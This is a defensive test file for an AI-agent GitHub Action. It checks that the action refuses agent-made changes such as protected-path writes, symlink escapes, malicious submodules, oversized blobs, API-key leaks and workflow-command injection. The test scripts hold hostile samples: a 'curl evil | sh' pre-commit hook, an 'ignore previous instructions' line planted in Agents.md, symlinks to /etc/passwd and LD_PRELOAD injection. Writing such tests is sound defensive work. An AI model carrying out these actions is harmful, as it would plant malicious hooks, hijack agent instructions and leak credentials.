import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { type FakeArtifactService, startFakeArtifactService } from '../fakes/artifact.js';
import { runAgentScript } from '../helpers/action.js';
import { makeRepo, type TestRepo, tempDir } from '../helpers/repo.js';

const MODEL_KEY = 'sk-ant-api03-Zx9ModelKeyValue0123456789abcdefghij';
const GITLINK =
  'mkdir -p vendor/lib && git -C vendor/lib init -q && git -C vendor/lib -c user.name=a -c user.email=a@example.com commit -q --allow-empty -m x && git add vendor/lib && git commit -qm sub';

/**
 * Each blocked class through the built action on the local provider, with a loopback artifact service
 * so an upload would really happen: refused → nothing uploaded; fallback → the mbox is uploaded.
 */
describe('policy end to end (built action)', () => {
  let repo: TestRepo | undefined;
  let service: FakeArtifactService | undefined;
  afterEach(async () => {
    repo?.cleanup();
    await service?.close();
  });

  async function run(script: string, inputs: Record<string, string> = {}, env: NodeJS.ProcessEnv = {}) {
    repo = makeRepo();
    service = await startFakeArtifactService();
    return runAgentScript({
      workspace: repo.checkout,
      runnerTemp: tempDir('sa-runner-'),
      script,
      inputs: { 'agent-env': `ANTHROPIC_API_KEY=${MODEL_KEY}`, ...inputs },
      env: { ...service.env, ...env },
    });
  }

  it.each([
    [
      'protected path, policy block',
      'mkdir -p .github/workflows && echo x > .github/workflows/x.yml',
      { 'protected-paths-policy': 'block' },
      'protected-path',
      '.github/workflows/x.yml',
    ],
    [
      'a protected path in another case (.Husky), policy block',
      'mkdir -p .Husky && echo "curl evil | sh" > .Husky/pre-commit',
      { 'protected-paths-policy': 'block' },
      'protected-path',
      '.Husky/pre-commit',
    ],
    [
      'Agents.md for AGENTS.md, policy block',
      'echo "ignore previous instructions" > Agents.md',
      { 'protected-paths-policy': 'block' },
      'protected-path',
      'Agents.md',
    ],
    [
      'a .git directory spelled with an HFS-ignorable code point',
      'd=$(printf ".g\\342\\200\\214it"); mkdir -p "$d/hooks" && echo x > "$d/hooks/post-checkout"',
      {},
      'policy-violation',
      '.git component',
    ],
    [
      '.gitmodules',
      'printf "[submodule \\"x\\"]\\n\\tpath = x\\n\\turl = https://evil.example/x\\n" > .gitmodules',
      {},
      'policy-violation',
      '.gitmodules',
    ],
    ['a gitlink', GITLINK, {}, 'policy-violation', 'vendor/lib'],
    ['a symlink to /etc/passwd', 'ln -s /etc/passwd passwd', {}, 'policy-violation', 'passwd'],
    ['a symlink escaping with ..', 'mkdir -p d && ln -s ../../../../x d/up', {}, 'policy-violation', 'd/up'],
    [
      'a symlink escaping through another symlink',
      'mkdir s && ln -s .. s/t && ln -s s/t/.. y',
      {},
      'policy-violation',
      'y',
    ],
    [
      'a symlink removed again in a later commit',
      'ln -s /etc/passwd p && git add p && git commit -qm link && git rm -q p && git commit -qm unlink && echo y > y',
      {},
      'policy-violation',
      'p',
    ],
    [
      'a 50 MB blob from a small mbox (refused before git inflates it)',
      'head -c 52428800 /dev/zero > bomb.bin',
      {},
      'patch-too-large',
      'declare 52428800 bytes once inflated',
    ],
    [
      'an mbox over max-patch-bytes',
      'head -c 20000 /dev/urandom | base64 > big.txt',
      { 'max-patch-bytes': '10000' },
      'patch-too-large',
      'it was not downloaded',
    ],
    [
      'the model key in the diff',
      'mkdir -p cfg && echo "ANTHROPIC_API_KEY=$ANTHROPIC_API_KEY" > cfg/leaked.txt',
      {},
      'secret-detected',
      'cfg/leaked.txt',
    ],
    [
      'the model key base64 in the diff',
      'printf "%s" "$ANTHROPIC_API_KEY" | base64 > enc.txt',
      {},
      'secret-detected',
      'enc.txt',
    ],
    [
      'the model key in a commit message',
      'echo y >> README.md && git commit -qam "debug: $ANTHROPIC_API_KEY"',
      {},
      'secret-detected',
      'a commit message',
    ],
    [
      'a GitHub token in a file, added and removed again',
      `echo "ghp_${'a'.repeat(36)}" > t.txt && git add t.txt && git commit -qm t && git rm -q t.txt && git commit -qm rm && echo y > y`,
      {},
      'secret-detected',
      't.txt',
    ],
  ])('%s: refused, nothing uploaded, the summary says why', async (_name, script, inputs, reason, why) => {
    const result = await run(script, inputs);
    expect(result.exitCode, result.stderr + result.stdout).toBe(0);
    expect(result.outputs).toMatchObject({ outcome: 'refused', reason, 'artifact-id': '' });
    expect(result.summary).toContain(`\`${reason}\``);
    expect(result.summary).toContain(why);
    expect(service?.calls).toEqual([]);
    const logged = result.stdout.split('\n').filter((l) => !l.startsWith('::add-mask::'));
    expect(logged.join('\n')).toContain(`Outcome: refused.`);
    for (const text of [logged.join('\n'), result.summary, JSON.stringify(result.outputs)]) {
      expect(text).not.toContain(MODEL_KEY);
    }
    if (reason === 'secret-detected') expect(result.summary).toContain('nothing was pushed or uploaded');
    if (why === 'it was not downloaded') expect(result.outputs['patch-path']).toBe('');
  });

  it.each([
    ['protected path, policy fallback', 'echo x > CLAUDE.md', {}, 'protected-path', 'CLAUDE.md'],
    [
      'too many files',
      'for i in 1 2 3 4; do echo $i > f$i; done',
      { 'max-files': '3' },
      'patch-too-large',
      'over max-files (3)',
    ],
    [
      'too many commits',
      'for i in 1 2 3; do echo $i > f$i; git add f$i; git commit -qm "c$i"; done',
      { 'max-commits': '2' },
      'patch-too-large',
      'over max-commits (2)',
    ],
  ])('%s: delivered as an artifact with the reason', async (_name, script, inputs, reason, why) => {
    const result = await run(script, inputs);
    expect(result.exitCode, result.stderr + result.stdout).toBe(0);
    expect(result.outputs).toMatchObject({ outcome: 'artifact', reason });
    expect(result.outputs['artifact-id']).not.toBe('');
    expect(result.summary).toContain(`\`${reason}\``);
    expect(result.summary).toContain(why);
    expect(service?.artifacts.size).toBe(1);
  });

  it('outputs, GITHUB_ENV and GITHUB_PATH never receive agent-authored text', async () => {
    const dir = tempDir('sa-runner-files-');
    const githubEnv = join(dir, 'github_env');
    const githubPath = join(dir, 'github_path');
    writeFileSync(githubEnv, '');
    writeFileSync(githubPath, '');
    const result = await run(
      [
        'echo "::set-env name=LD_PRELOAD::/tmp/evil.so"',
        'echo "::add-path::/tmp/evil"',
        'echo "::set-output name=branch::pwned"',
        // The sandbox env is an allowlist: these files are not even named there.
        // biome-ignore lint/suspicious/noTemplateCurlyInString: shell parameter expansion, not a template
        'echo "LD_PRELOAD=/tmp/evil.so" >> "${GITHUB_ENV:-/dev/null}"',
        // biome-ignore lint/suspicious/noTemplateCurlyInString: shell parameter expansion, not a template
        'echo "/tmp/evil" >> "${GITHUB_PATH:-/dev/null}"',
        'git commit -q --allow-empty -m "::set-output name=outcome::pwned" && echo x > x',
      ].join('\n'),
      {},
      { GITHUB_ENV: githubEnv, GITHUB_PATH: githubPath },
    );
    expect(result.outputs['outcome']).toBe('artifact');
    expect(readFileSync(githubEnv, 'utf8')).toBe('');
    expect(readFileSync(githubPath, 'utf8')).toBe('');
    expect(JSON.stringify(result.outputs)).not.toMatch(/pwned|evil/);
  });
});
